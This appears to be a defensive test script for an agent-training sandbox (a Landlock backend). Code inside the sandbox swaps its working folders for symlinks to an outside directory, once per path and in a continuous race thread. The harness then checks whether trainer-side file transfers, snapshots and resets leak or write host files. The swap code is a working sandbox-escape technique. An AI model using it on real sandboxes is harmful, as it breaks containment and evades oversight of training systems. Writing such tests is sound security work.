"""Code that puts links in the place of its folders, and everything that a trainer may then ask for.

python link_attack.py OUTSIDE    prints what the sandbox and the trainer saw as JSON; OUTSIDE is a folder of the machine
"""

from __future__ import annotations

import asyncio
import json
import sys
from typing import Any

from verl_agentic.base.errors import DataError
from verl_agentic.sandbox.boxes.landlock_backend import LandlockBackend
from verl_agentic.sandbox.interface import Command, Limits, Sandbox

_LIMITS = Limits(wall_s=20.0)
_SWAP = """
import os, sys
work = {work!r}
outside = {outside!r}
def swap(path):
    for step in (lambda: os.chmod(os.path.dirname(path), 0o700), lambda: os.rename(path, path + ".gone"),
                 lambda: os.rename(path, os.path.join(work, "gone")), lambda: os.rmdir(path), lambda: os.unlink(path)):
        try:
            step()
        except OSError:
            pass
    try:
        os.symlink(outside, path)
    except OSError:
        pass
PATHS = [work + "/inner", work, os.path.join(os.path.dirname(work), "tmp"), os.path.dirname(work),
         os.path.dirname(os.path.dirname(work)), os.path.join(os.path.dirname(os.path.dirname(work)), "snapshot"),
         os.path.join(os.path.dirname(os.path.dirname(work)), "old")]
def back():
    for path in PATHS:
        for name in (path + ".gone", os.path.join(work, "gone")):
            try:
                os.unlink(path)
            except OSError:
                pass
            try:
                os.rename(name, path)
            except OSError:
                pass
os.makedirs(work + "/inner", exist_ok=True)
"""
_ONCE = "swap(PATHS[{index}])"
_NUM_PATHS = 7
_FOREVER = """
import threading
def change():
    while True:
        for path in PATHS:
            swap(path)
            back()
            try:
                os.makedirs(work + "/inner", exist_ok=True)
            except OSError:
                pass
threading.Thread(target=change, daemon=True).start()
"""
_LOOK = """
import os
for folder in (".", "inner", os.environ["TMPDIR"]):
    for top, _, names in os.walk(folder, followlinks=False):
        for name in names:
            try:
                print(name, open(os.path.join(top, name)).read())
            except OSError:
                pass
"""


async def attack(outside: str) -> dict[str, Any]:
    """Returns what the sandbox and the trainer saw, and the trainer's errors."""
    backend = LandlockBackend()
    await backend.start()
    seen: list[str] = []
    errors: list[str] = []
    try:
        for index in range(_NUM_PATHS):
            sandbox = await backend.create()
            await _ask_all(sandbox, _ONCE.format(index=index), outside, seen, errors, rounds=1)
            await sandbox.close()
        sandbox = await backend.create()
        await _ask_all(sandbox, _FOREVER, outside, seen, errors, rounds=8)
        await sandbox.close()
    finally:
        await backend.close()
    return {"seen": seen, "errors": errors}


async def _ask_all(
    sandbox: Sandbox, code: str, outside: str, seen: list[str], errors: list[str], *, rounds: int
) -> None:
    work = (await sandbox.run(Command(code="import os\nprint(os.getcwd(), end='')"), limits=_LIMITS)).stdout
    source = _SWAP.format(work=work, outside=outside) + code
    for _ in range(rounds):
        session = await sandbox.open_session("python", limits=_LIMITS)
        await session.run(source, wall_s=10.0)
        for make in (
            lambda: sandbox.run(Command(code=_LOOK, outputs=["secret", "inner/secret"]), limits=_LIMITS),
            lambda: sandbox.take_tree(max_bytes=10_000_000, max_files=1000),
            lambda: sandbox.take_tree("inner", max_bytes=10_000_000, max_files=1000),
            lambda: sandbox.put_tree({"planted": b"x", "inner/planted": b"x"}),
            lambda: sandbox.run(Command(code=_LOOK, files={"inner/planted": b"x"}), limits=_LIMITS),
            lambda: sandbox.run(Command(code=_LOOK, outputs=["secret"]), limits=_LIMITS, fresh=True),
        ):
            try:
                seen.append(repr(await make()))
            except DataError:
                continue  # code is in the way
            except Exception as error:
                errors.append(repr(error))
        try:
            number = await sandbox.snapshot()
            await sandbox.reset(number)
            seen.append(repr(await sandbox.run(Command(code=_LOOK, outputs=["secret"]), limits=_LIMITS)))
            await sandbox.reset()
            seen.append(repr(await sandbox.run(Command(code=_LOOK), limits=_LIMITS)))
        except Exception as error:
            errors.append(repr(error))


if __name__ == "__main__":
    print(json.dumps(asyncio.run(attack(sys.argv[1]))))
